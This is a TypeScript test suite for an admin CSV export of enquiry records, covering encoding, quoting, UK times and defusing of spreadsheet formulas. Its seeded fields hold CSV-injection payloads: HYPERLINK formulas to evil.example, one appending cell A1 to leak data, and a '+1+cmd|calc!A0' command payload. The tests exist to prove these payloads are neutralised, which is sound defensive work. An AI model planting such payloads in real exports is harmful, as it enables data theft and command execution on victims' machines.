import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../../tests/support/app';
import { seedEnquiry } from '../../../../tests/support/enquiries-factory';
import { londonSpreadsheetTime } from '../../../shared/london-time';

const KEY = 'csv-test-key-0123456789abcdefgh';

describe('GET /api/contact-submissions/export.csv', () => {
  let subject: TestApp;
  beforeAll(async () => {
    subject = await createTestApp({ env: { ADMIN_API_KEY: KEY } });
  });
  afterAll(() => subject.close());

  it('exports UTF-8 with a BOM, quotes properly and defuses formulas', async () => {
    const db = subject.database.db;
    await seedEnquiry(db, {
      first_name: '=HYPERLINK("http://evil.example","Click")',
      last_name: 'Ó Briain',
      email: '@sum@example.test',
      telephone: '+44 1632 960000',
      mobile: '-1+1',
      message: 'Line one\r\nLine "two", with a comma',
      submitted_at: '2026-05-01T09:00:00.000Z',
    });
    await seedEnquiry(db, {
      submission_type: 'assessment',
      first_name: '\tTabbed',
      notes: '\rcarriage',
      submitted_at: '2026-05-02T09:00:00.000Z',
    });

    const response = await subject.app.inject({
      url: '/api/contact-submissions/export.csv?type=contact',
      headers: { 'x-api-key': KEY },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="submissions-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));

    const lines = response.body.slice(1).split('\r\n');
    expect(lines[0]).toBe(
      'Number,Received (UK time),Type,Reviewed,Reviewed by,Stage,Why not going ahead,Stage moved by,' +
        'First contact (UK time),First name,Last name,Email,' +
        "Telephone,Mobile,Year group,Subject,Parent's notes,Message,Staff notes," +
        'Landing page,Source,Medium,Campaign,Channel,Sent from',
    );
    // The filter applies: only the contact submission; the assessment is not exported.
    expect(response.body).not.toContain('Tabbed');
    // 09:00 UTC on 1 May is 10:00 in London (BST); phone numbers behind a tab, which spreadsheets keep as text.
    expect(response.body).toContain(
      `,01/05/2026 10:00,Contact,No,,New,,,,"'=HYPERLINK(""http://evil.example"",""Click"")",Ó Briain,` +
        `'@sum@example.test,"\t+44 1632 960000","\t-1+1",,,,"Line one\r\nLine ""two"", with a comma",,,,,,,\r\n`,
    );
    expect(response.body.endsWith('\r\n')).toBe(true);
  });

  it('writes where each enquiry came from (decision 0065), a formula-like tag defused', async () => {
    const db = subject.database.db;
    const { id } = await seedEnquiry(db, { first_name: 'Sourced', submitted_at: '2026-05-03T09:00:00.000Z' });
    await db
      .insertInto('analytics_attribution')
      .values({
        enquiry_id: id,
        at: '2026-05-03T09:00:00.000Z',
        landing_path: '/exam-resits',
        sent_from: '/free-assessment',
        channel: 'campaign',
        source: 'facebook',
        medium: 'paid',
        campaign: '-spring-gcse',
        conversion: 'true',
      })
      .execute();
    const response = await subject.app.inject({
      url: '/api/contact-submissions/export.csv?type=contact',
      headers: { 'x-api-key': KEY },
    });
    const row = response.body.split('\r\n').find((line) => line.startsWith(`${id},`))!;
    expect(row.endsWith(",/exam-resits,facebook,paid,'-spring-gcse,Campaign,/free-assessment")).toBe(true);
  });

  it('defuses a leading tab or carriage return too', async () => {
    const response = await subject.app.inject({
      url: '/api/contact-submissions/export.csv?type=assessment',
      headers: { 'x-api-key': KEY },
    });
    expect(response.body).toContain(`,"'\tTabbed",`);
    expect(response.body).toContain(`,"'\rcarriage",`);
  });
});

describe('the export as a spreadsheet reads it (issue 38)', () => {
  let subject: TestApp;
  beforeAll(async () => {
    subject = await createTestApp({ env: { ADMIN_API_KEY: KEY } });
  });
  afterAll(() => subject.close());

  const exported = async () => {
    const response = await subject.app.inject({
      url: '/api/contact-submissions/export.csv',
      headers: { 'x-api-key': KEY },
    });
    expect(response.statusCode).toBe(200);
    return response.body;
  };

  it('writes UK time, Yes/No, the stage and who moved it, and the staff notes with their author and time', async () => {
    const db = subject.database.db;
    const { id } = await seedEnquiry(db, {
      first_name: 'Priya',
      last_name: 'Hughes',
      telephone: '01632 960000',
      mobile: '+44 (0)7700 900456',
      submitted_at: '2026-11-27T09:46:01.299Z',
    });
    const headers = { 'x-api-key': KEY };
    const moved = await subject.app.inject({
      method: 'POST',
      url: `/api/contact-submissions/${id}/stage`,
      headers,
      payload: { from: 'new', to: 'contacted' },
    });
    const contactedAt = moved.json<{ contactedAt: string }>().contactedAt;
    for (const text of ['Rang back, left a voicemail.', 'Booked for Tuesday.']) {
      await subject.app.inject({
        method: 'POST',
        url: `/api/contact-submissions/${id}/notes`,
        headers,
        payload: { text },
      });
    }
    const notes = await db.selectFrom('staff_notes').select('created_at').where('submission_id', '=', id).execute();
    const body = await exported();
    const row = body.split('\r\n').find((line) => line.startsWith(`${id},`))!;
    // Winter: London is on GMT. A leading zero and a leading + survive, with no quote mark to see.
    expect(row).toMatch(
      new RegExp(
        `^${id},27/11/2026 09:46,Contact,Yes,Admin key,Contacted,,Admin key,${londonSpreadsheetTime(contactedAt)},` +
          `Priya,Hughes,[^,]+,"\\t01632 960000","\\t\\+44 \\(0\\)7700 900456",`,
      ),
    );
    expect(row).not.toContain("'+44");
    expect(row).not.toContain('true');
    expect(body).toContain(
      `"${londonSpreadsheetTime(notes[0]!.created_at)} Admin key: Rang back, left a voicemail.\n` +
        `${londonSpreadsheetTime(notes[1]!.created_at)} Admin key: Booked for Tuesday.",,,,,,\r\n`,
    );
  });

  it('defuses a formula typed as a phone number, and one typed in a staff note', async () => {
    const db = subject.database.db;
    const { id } = await seedEnquiry(db, {
      telephone: '=HYPERLINK("http://evil.example/?"&A1,"Call")',
      mobile: '+1+cmd|calc!A0',
      submitted_at: '2026-07-01T23:30:00.000Z',
    });
    await subject.app.inject({
      method: 'POST',
      url: `/api/contact-submissions/${id}/notes`,
      headers: { 'x-api-key': KEY },
      payload: { text: '=1+1' },
    });
    const row = (await exported()).split('\r\n').find((line) => line.startsWith(`${id},`))!;
    // Summer: 23:30 UTC is 00:30 the next day in London.
    expect(row).toContain(`${id},02/07/2026 00:30,`);
    // Not phone-shaped (letters, quotes): the usual quote mark, never the tab; the cell cannot start with =.
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Call"")",'+1+cmd|calc!A0,`);
    expect(row).not.toContain('\t=');
    // A note's cell starts with its time, so a formula inside it is only text.
    expect(row).toMatch(/,"?\d\d\/\d\d\/\d{4} \d\d:\d\d Admin key: =1\+1"?,,,,,,$/);
  });
});
